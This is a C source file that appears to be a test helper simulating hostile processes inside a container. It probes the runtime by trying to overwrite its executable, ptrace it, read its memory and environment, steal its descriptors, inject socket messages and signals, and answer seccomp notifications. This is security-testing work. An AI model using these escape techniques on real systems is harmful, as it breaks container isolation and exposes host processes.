/*
 * attack.c - what hostile processes do
 *
 *	attack exchange A B		exchange two names forever (RENAME_EXCHANGE), as fast as possible
 *	attack exe			forever: open the program file of every process that is not busybox or this one, and try to
 *					write to it, even when the process has ended.  Prints a line for each new kind of answer:
 *					"seen LINK", "refused ERRNO", "WRITABLE LINK"
 *	attack reach			forever: try to trace every process that is not busybox or this one, to read its memory, and
 *					to open its descriptors from 3 on, its root and its folder.  Prints a line for each new kind
 *					of answer: "seen", "GOT WHAT", and what a descriptor leads to
 *	attack powers			forever: look at the capabilities, the seccomp mode, the limit on descriptors, the OOM score
 *					adjustment and the descriptors of every such process.  Prints a line for each new one: "seen",
 *					"may CAPABILITIES" (permitted, hexadecimal), "filter MODE", "up to N files", "score N", "a
 *					descriptor of WHAT"
 *	attack speak MESSAGE		forever: take each socket of every such process, and send over it the number of that message of
 *					the runtime's channel, with a descriptor.  Prints a line for each new kind of answer: "sent"
 *	attack signal NUMBER		forever: send every such process that signal
 *	attack call NUMBER ARGS...	make a system call; prints its result or "error ERRNO"
 *	attack listen SOCKET		take one seccomp listener with its message, print the message, then answer all calls: mkdir
 *					gets error 77, others are let through
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int exchange(const char *a, const char *b)
{
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

static void say(const char *what, const char *about)
{
	static char said[64][256];
	char line[256];

	snprintf(line, sizeof line, "%s %.200s\n", what, about);
	for (int i = 0; i < 64; i++) {
		if (!strcmp(said[i], line))
			return;
		if (!said[i][0]) {
			memcpy(said[i], line, sizeof line);
			(void) !write(1, line, strlen(line));
			return;
		}
	}
}

/* Held since it was first seen, and tried again and again: its process ends, and then nothing keeps it from being written. */
static struct { int fd; char link[200]; } held[256];

static void hold(const char *pid)
{
	char path[64], link[200] = "";
	static unsigned next;

	snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
	if (readlink(path, link, sizeof link - 1) < 0 || strstr(link, "busybox") || strstr(link, "attack") || strstr(link, "sleep"))
		return;
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	say("seen", strrchr(link, '/') + 1);
	close(held[next].fd);
	held[next].fd = fd;
	strcpy(held[next].link, link);
	next = (next + 1) % 256;
}

static int exe(void)
{
	char path[64], number[16], self[16];

	snprintf(self, sizeof self, "%d", getpid());
	for (int i = 0; i < 256; i++)
		held[i].fd = -1;
	say("ready", "");
	for (;;) {
		DIR *dir = opendir("/proc");
		for (struct dirent *d; dir && (d = readdir(dir)); )
			if (d->d_name[0] >= '0' && d->d_name[0] <= '9' && strcmp(d->d_name, self))
				hold(d->d_name);
		if (dir)
			closedir(dir);
		for (int i = 0; i < 256; i++) {
			if (held[i].fd < 0)
				continue;
			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
			int fd = open(path, O_WRONLY | O_CLOEXEC);
			/* A sealed memfd may be opened, but not written. */
			if (fd >= 0 && pwrite(fd, "#!", 2, 0) == 2) {
				say("WRITABLE", held[i].link);
				close(fd);
			} else {
				snprintf(number, sizeof number, "%d", errno);
				say("refused", number);
				close(fd);
			}
		}
	}
}

/* A process of the runtime in our pid namespace: its program is none of ours. */
static int is_foreign(const char *pid)
{
	char path[64], name[64] = "";
	FILE *f;

	snprintf(path, sizeof path, "/proc/%.20s/comm", pid);
	if (!(f = fopen(path, "re")))
		return 0;
	(void) !fgets(name, sizeof name, f);
	fclose(f);
	return !strncmp(name, "ctr-run", 7);
}

/* It still is, after we had something of it.  The name tells too late: an exec lets others in just before it sets the name, and
 * just after it clears PF_FORKNOEXEC, which each process of the runtime that is to be seen here has. */
static int is_still_foreign(const char *pid)
{
	char path[64], text[512], *p;
	unsigned flags = 0;
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%.20s/stat", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	if (fd >= 0)
		close(fd);
	if (n <= 0)
		return 0;
	text[n] = '\0';
	p = strrchr(text, ')');
	return p && sscanf(p, ") %*c %*d %*d %*d %*d %*d %u", &flags) == 1 && flags & 0x40 && is_foreign(pid);
}

static void got(const char *what, const char *about)
{
	char line[250];

	snprintf(line, sizeof line, "%s %.200s", what, about);
	say("GOT", line);
}

static void try_trace(const char *pid)
{
	pid_t target = atoi(pid);

	if (syscall(SYS_ptrace, PTRACE_SEIZE, target, 0, 0) < 0)
		return;
	/* It may have become the container's own program meanwhile. */
	if (syscall(SYS_ptrace, PTRACE_INTERRUPT, target, 0, 0) == 0 && waitpid(target, NULL, __WALL) == target && is_still_foreign(pid))
		got("a trace", "");
	syscall(SYS_ptrace, PTRACE_DETACH, target, 0, 0);
}

/* What the descriptors of PID from 3 on lead to, told as WHAT. */
static void try_descriptors(const char *pid, const char *what)
{
	char path[80], link[200];
	ssize_t n;

	for (int k = 3; k < 64; k++) {
		snprintf(path, sizeof path, "/proc/%.20s/fd/%d", pid, k);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		n = readlink(path, link, sizeof link - 1);
		link[n > 0 ? n : 0] = '\0';
		link[strcspn(link, "[0123456789")] = '\0';
		if (is_still_foreign(pid))
			say(what, link);
		close(fd);
	}
}

static void powers(const char *pid)
{
	char path[80], line[256], may[64] = "", filter[64] = "";
	FILE *f;

	snprintf(path, sizeof path, "/proc/%.20s/status", pid);
	if (!(f = fopen(path, "re")))
		return;
	while (fgets(line, sizeof line, f)) {
		sscanf(line, "CapPrm: %63s", may);
		sscanf(line, "Seccomp: %63s", filter);
	}
	fclose(f);
	if (may[0] && is_still_foreign(pid)) {
		say("may", may);
		say("filter", filter);
	}
	struct rlimit limit;
	if (prlimit(atoi(pid), RLIMIT_NOFILE, NULL, &limit) == 0 && is_still_foreign(pid)) {
		snprintf(line, sizeof line, "%llu files", (unsigned long long) limit.rlim_max);
		say("up to", line);
	}
	snprintf(path, sizeof path, "/proc/%.20s/oom_score_adj", pid);
	if ((f = fopen(path, "re"))) {
		int n = fscanf(f, "%63s", may);
		fclose(f);
		if (n == 1 && is_still_foreign(pid))
			say("score", may);
	}
	try_descriptors(pid, "a descriptor of");
}

static void try_files(const char *pid)
{
	static const char *const names[] = { "mem", "root", "cwd", "environ", "maps" };
	char path[80];

	for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
		snprintf(path, sizeof path, "/proc/%.20s/%s", pid, names[i]);
		int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
		if (fd >= 0 && is_still_foreign(pid) && (i > 0 || read(fd, path, 1) >= 0 || errno == EIO))
			got("its", names[i]);
		if (fd >= 0)
			close(fd);
	}
	try_descriptors(pid, "GOT a descriptor of");
}

static int each_foreign(void (*f)(const char *pid))
{
	char self[16];

	snprintf(self, sizeof self, "%d", getpid());
	say("ready", "");
	for (;;) {
		DIR *dir = opendir("/proc");
		for (struct dirent *d; dir && (d = readdir(dir)); )
			if (d->d_name[0] >= '0' && d->d_name[0] <= '9' && strcmp(d->d_name, self) && is_foreign(d->d_name)) {
				say("seen", "");
				f(d->d_name);
			}
		if (dir)
			closedir(dir);
	}
}

static void reach(const char *pid)
{
	try_files(pid);
	try_trace(pid);
}

static int the_message;

/* Every descriptor of it that is a socket gets the packet: only the channel takes it. */
static void speak(const char *pid)
{
	uint32_t head = (uint32_t) the_message;
	union { struct cmsghdr head; char room[CMSG_SPACE(sizeof(int))]; } control = { 0 };
	struct iovec v = { &head, sizeof head };
	struct msghdr message = { .msg_iov = &v, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control };
	int target = (int) syscall(SYS_pidfd_open, atoi(pid), 0), own = 1;

	control.head = (struct cmsghdr) { .cmsg_len = CMSG_LEN(sizeof own), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS };
	memcpy(CMSG_DATA(&control.head), &own, sizeof own);
	for (int k = 3; target >= 0 && k < 64; k++) {
		int fd = (int) syscall(SYS_pidfd_getfd, target, k, 0);
		if (fd >= 0 && sendmsg(fd, &message, MSG_NOSIGNAL) > 0)
			say("sent", "");
		close(fd);
	}
	close(target);
}

static int the_signal;

static void send_signal(const char *pid)
{
	if (kill(atoi(pid), the_signal) == 0)
		say("sent", "");
}

static int call(char **words)
{
	long a[7] = { 0 };

	for (int i = 0; i < 7 && words[i]; i++)
		a[i] = strtol(words[i], NULL, 0);
	long result = syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
	if (result < 0)
		printf("error %d\n", errno);
	else
		printf("%ld\n", result);
	return 0;
}

static int listen_at(const char *path)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	static char text[1 << 20];
	char control[CMSG_SPACE(sizeof(int))];
	struct iovec v = { text, sizeof text - 1 };
	struct msghdr message = { .msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
	int sock = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), fd;

	snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
	if (bind(sock, (struct sockaddr *) &address, sizeof address) < 0 || listen(sock, 1) < 0)
		return perror(path), 1;
	int peer = accept(sock, NULL, NULL);
	ssize_t n = recvmsg(peer, &message, 0);
	struct cmsghdr *c = CMSG_FIRSTHDR(&message);
	if (n < 0 || !c)
		return perror("recvmsg"), 1;
	memcpy(&fd, CMSG_DATA(c), sizeof fd);
	/* A long one comes in parts. */
	ssize_t more;
	while ((more = read(peer, text + n, sizeof text - 1 - (size_t) n)) > 0)
		n += more;
	text[n] = 0;
	printf("%s\nclosed %d\n", text, more == 0);
	fflush(stdout);
	for (;;) {
		struct seccomp_notif asked = { 0 };
		struct pollfd p = { .fd = fd, .events = POLLIN };
		if (poll(&p, 1, -1) > 0 && !(p.revents & POLLIN))
			return 0;	/* nobody has the filter any more */
		if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &asked) < 0)
			continue;
		struct seccomp_notif_resp answer = { .id = asked.id };
		if (asked.data.nr == SYS_mkdir || asked.data.nr == SYS_mkdirat)
			answer.error = -77;
		else
			answer.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &answer);
	}
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "exchange"))
		return exchange(argv[2], argv[3]);
	if (argc == 2 && !strcmp(argv[1], "exe"))
		return exe();
	if (argc == 2 && !strcmp(argv[1], "reach"))
		return each_foreign(reach);
	if (argc == 2 && !strcmp(argv[1], "powers"))
		return each_foreign(powers);
	if (argc == 3 && !strcmp(argv[1], "speak")) {
		the_message = atoi(argv[2]);
		return each_foreign(speak);
	}
	if (argc == 3 && !strcmp(argv[1], "signal")) {
		the_signal = atoi(argv[2]);
		return each_foreign(send_signal);
	}
	if (argc > 2 && !strcmp(argv[1], "call"))
		return call(argv + 2);
	if (argc == 3 && !strcmp(argv[1], "listen"))
		return listen_at(argv[2]);
	return 2;
}
